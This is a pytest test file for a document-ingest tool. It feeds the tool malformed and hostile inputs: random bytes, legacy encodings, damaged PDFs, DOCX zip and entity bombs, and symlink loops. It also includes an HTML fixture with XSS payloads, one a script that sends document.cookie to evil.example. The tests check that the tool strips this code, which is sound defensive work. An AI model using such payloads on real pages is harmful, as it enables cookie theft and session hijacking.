"""One messy folder through ``communique ingest``: every file is stored correctly
or refused with a one-line reason naming it, and the rest of the batch is stored.

The folder is built once (random bytes under every supported suffix, empty
files, legacy encodings, broken and encrypted PDFs, DOCX bombs, hostile HTML,
awkward names, symbolic link loops) and ingested once in a child process; the
tests below read that one run.
"""

from __future__ import annotations

import os
import random
import re
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import new_db, raw_connect
from hostile import files as f
from hostile.cli import Ingest, check_store, ingest

SUFFIXES = (".txt", ".md", ".html", ".htm", ".pdf", ".docx")


@dataclass
class Batch:
    folder: Path
    db: Path
    run: Ingest
    # file name -> regex its failure reason must match, or None: must be stored
    expected: dict[str, str | None]
    # file name -> a sentence its stored text must hold
    holds: dict[str, str]


def _build(folder: Path) -> tuple[dict[str, str | None], dict[str, str]]:
    rng = random.Random(20240611)
    expected: dict[str, str | None] = {}
    holds: dict[str, str] = {}

    def put(name: str, data: bytes, outcome: str | None, sentence: str | None = None) -> None:
        (folder / name).write_bytes(data)
        expected[name] = outcome
        if sentence is not None:
            holds[name] = sentence

    binary = r"binary content|damaged PDF|not a DOCX|undecodable"
    for n, suffix in enumerate(SUFFIXES):
        # Each its own bytes: identical files would be one document.
        put(f"random{suffix}", rng.randbytes(8192 + n), binary)
        put(f"empty{suffix}", b"", r"^empty file")
    put("blank.txt", b" \n\t\n   \n", r"no text|white space")
    put("nul.txt", b"\x00" * 4096, binary)

    # Legacy and BOM-less encodings: stored, decoded right.
    first_ru = f.RU.split(". ")[0]
    first_zh = f.ZH.split("。")[0]
    first_hant = f.ZH_HANT.split("。")[0]
    first_en = f.EN.split(". ")[0]
    put("gb18030.txt", f.variant(f.ZH, 1).encode("gb18030"), None, first_zh)
    put("big5.txt", f.variant(f.ZH_HANT, 2).encode("big5"), None, first_hant)
    put("cp1251.txt", f.variant(f.RU, 3).encode("cp1251"), None, first_ru)
    put("koi8r.md", f.variant(f.RU, 4).encode("koi8_r"), None, first_ru)
    put("utf16le.txt", f.variant(f.EN, 5).encode("utf-16-le"), None, first_en)
    put("utf16be.txt", f.variant(f.RU, 6).encode("utf-16-be"), None, first_ru)
    put("utf16le_zh.txt", f.variant(f.ZH, 7).encode("utf-16-le"), None, first_zh)
    # Mixed: UTF-8 lines and cp1251 lines pasted together; each line decoded its own way.
    mixed = (f.EN + "\n").encode() + (f.RU + "\n").encode("cp1251") + (f.ZH + "\n").encode()
    put("mixed.txt", mixed, None, first_ru)
    # Invalid UTF-8: a stray byte, and a file cut inside a character.
    put("stray.txt", f.RU.encode() + b" \xff " + f.variant(f.RU, 8).encode(), None, first_ru)
    put("cut.txt", f.variant(f.ZH, 9).encode()[:-2] + "纲".encode()[:2], None, first_zh)

    # PDF: a good one, and every way one goes wrong.
    good_pdf = f.pdf_with_text(f.EN.split(". "))
    put("good.pdf", good_pdf, None, first_en)
    put("truncated.pdf", good_pdf[: len(good_pdf) // 2], r"^damaged PDF")
    put("encrypted.pdf", f.pdf_encrypted(), r"^encrypted PDF$")
    put("scanned.pdf", f.pdf_without_text(), r"^no text layer; OCR not supported$")

    # DOCX: a good one, a zip bomb, entity bombs (UTF-8 and UTF-16), a bare zip.
    put("good.docx", f.docx(f.document_xml([f.RU, "Москва, 14 мая 2013 года"])), None, first_ru)
    put("zipbomb.docx", f.docx_zip_bomb(), r"^zip bomb")
    put("entities.docx", f.docx_entity_bomb(), r"entity|entities")
    put("entities16.docx", f.docx_entity_bomb("utf-16"), r"entity|entities|amplification")
    put("bare.docx", f.docx(b"").replace(b"[Content_Types].xml", b"[Content_Typez].xml"), r"DOCX")

    # HTML with scripts, handlers and javascript: links (text stored, code not).
    put("hostile.html", HOSTILE_HTML.encode(), None, "The Heads of State signed the Charter")

    # Awkward file names: stored like any other.
    for n, name in enumerate(("with spaces.txt", "Заявление 声明.md", "new\nline.txt")):
        put(name, f.variant(f.EN, 20 + n).encode(), None, first_en)

    # Symbolic links: a folder loop (walked once), a file loop, one that leads nowhere.
    (folder / "loop").mkdir()
    (folder / "loop" / "up").symlink_to("..", target_is_directory=True)
    (folder / "self.txt").symlink_to("self.txt")
    expected["self.txt"] = r"symbolic links|loop"
    (folder / "dangling.md").symlink_to("nowhere.md")
    expected["dangling.md"] = r"No such file|not found"

    # A duplicate of a refused file is refused too, not "unchanged".
    put("empty_copy.txt", b"", r"^empty file")
    return expected, holds


HOSTILE_HTML = """<!DOCTYPE html>
<html><head><title>Declaration <script>alert('title')</script></title>
<script>document.write('INJECTED-BY-SCRIPT'); fetch('https://evil.example/?c=' + document.cookie)</script>
<style>body { background: url("javascript:alert('css')") }</style>
</head>
<body onload="alert('onload')">
<nav><a href="javascript:alert('nav')">Home</a></nav>
<article>
<h1 onclick="alert('h1')">Declaration of the Heads of State</h1>
<p onmouseover="steal()">The Heads of State signed the Charter in Shanghai on 15 June 2001.
They agreed to <a href="javascript:alert('link')">strengthen cooperation</a> in security.</p>
<p>The parties noted that &lt;script&gt;alert('escaped')&lt;/script&gt; is only text.</p>
<img src="x" onerror="alert('img')">
<iframe src="javascript:alert('frame')"></iframe>
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
</article>
</body></html>
"""


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> Batch:
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "batch"
    folder.mkdir()
    expected, holds = _build(folder)
    db = new_db(root, "store.db")
    return Batch(folder, db, ingest([folder], db), expected, holds)


def test_batch_exits_1_and_reports_every_file(batch: Batch) -> None:
    assert batch.run.returncode == 1
    results = batch.run.by_name()
    assert set(results) == set(batch.expected), "a file was lost or invented"
    assert len(batch.run.report["results"]) == len(batch.expected)


@pytest.mark.parametrize("status", ["stored", "failed"])
def test_each_file_has_its_outcome(batch: Batch, status: str) -> None:
    results = batch.run.by_name()
    wrong = []
    for name, pattern in batch.expected.items():
        r = results[name]
        if (pattern is None) != (status == "stored"):
            continue
        if status == "stored":
            if r["status"] != "stored" or not r["document_id"]:
                wrong.append((name, r["status"], r["reason"]))
        elif r["status"] != "failed" or not re.search(pattern, r["reason"] or ""):
            wrong.append((name, r["status"], r["reason"]))
    assert wrong == []


def test_each_failure_is_one_stderr_line_naming_the_file(batch: Batch) -> None:
    results = batch.run.report["results"]
    failed = [r for r in results if r["status"] == "failed"]
    lines = batch.run.error_lines()
    assert len(lines) == len(failed)
    for r in failed:
        shown = r["path"].replace("\n", "\\n")
        line = f"{shown}: {r['reason']}"
        assert line in lines, line
    # The name with a newline stayed on its line.
    assert not any(line.startswith("line.txt") for line in batch.run.stderr.splitlines())


def test_stored_documents_hold_their_text(batch: Batch) -> None:
    conn = raw_connect(batch.db)
    try:
        texts = {
            Path(path).name: text for path, text in conn.execute("SELECT path, text FROM documents")
        }
    finally:
        conn.close()
    stored = {n for n, p in batch.expected.items() if p is None}
    assert set(texts) == stored
    for name, sentence in batch.holds.items():
        assert sentence in texts[name], (name, texts[name][:200])
    # Replacement characters only where the bytes were damaged.
    assert not any("\ufffd" in texts[n] for n in stored - {"stray.txt", "cut.txt"})


def test_hostile_html_keeps_text_and_drops_code(batch: Batch) -> None:
    conn = raw_connect(batch.db)
    try:
        text, title = conn.execute(
            "SELECT text, coalesce(title, '') FROM documents WHERE name = 'hostile.html'"
        ).fetchone()
    finally:
        conn.close()
    assert "strengthen cooperation" in text
    for code in ("INJECTED", "document.cookie", "alert('onload')", "javascript:", "onerror"):
        assert code not in text and code not in title
    assert "steal()" not in text and "alert('svg" not in text
    # What the page wrote as text (escaped markup) is text, kept as written.
    assert "<script>alert('escaped')</script> is only text" in text


def test_store_is_whole_after_the_batch(batch: Batch) -> None:
    counts = check_store(batch.db)
    stored = [n for n, p in batch.expected.items() if p is None]
    assert counts["documents"] == counts["distinct_sha256"] == len(stored)


def test_rerun_changes_nothing(batch: Batch) -> None:
    again = ingest([batch.folder], batch.db)
    counts = {s: 0 for s in ("stored", "unchanged", "failed")}
    for r in again.report["results"]:
        counts[r["status"]] += 1
    failed = sum(1 for p in batch.expected.values() if p is not None)
    assert counts == {"stored": 0, "unchanged": len(batch.expected) - failed, "failed": failed}
    assert check_store(batch.db)["documents"] == len(batch.expected) - failed


def test_unreadable_file_is_reported(tmp_path: Path) -> None:
    """A file its reader may not open: one line naming it, and the others stored."""
    import shutil

    folder = tmp_path / "perm"
    folder.mkdir()
    (folder / "ok.txt").write_text(f.variant(f.EN, 40), encoding="utf-8")
    secret = folder / "secret.txt"
    secret.write_text(f.variant(f.EN, 41), encoding="utf-8")
    secret.chmod(0)
    prefix: list[str] = []
    if os.access(secret, os.R_OK):
        # root reads anything; without its capabilities it is held to the mode bits.
        setpriv = shutil.which("setpriv")
        if setpriv is None:
            pytest.skip("running as root and setpriv is not available to drop capabilities")
        prefix = [setpriv, "--inh-caps=-all", "--bounding-set=-all"]
    run = ingest([folder, secret], new_db(tmp_path, "p.db"), prefix=prefix)
    results = run.by_name()
    assert run.returncode == 1
    assert results["ok.txt"]["status"] == "stored"
    assert results["secret.txt"]["status"] == "failed"
    assert re.search(r"[Pp]ermission denied", results["secret.txt"]["reason"])
    assert any(line.startswith(f"{secret}: ") for line in run.error_lines())
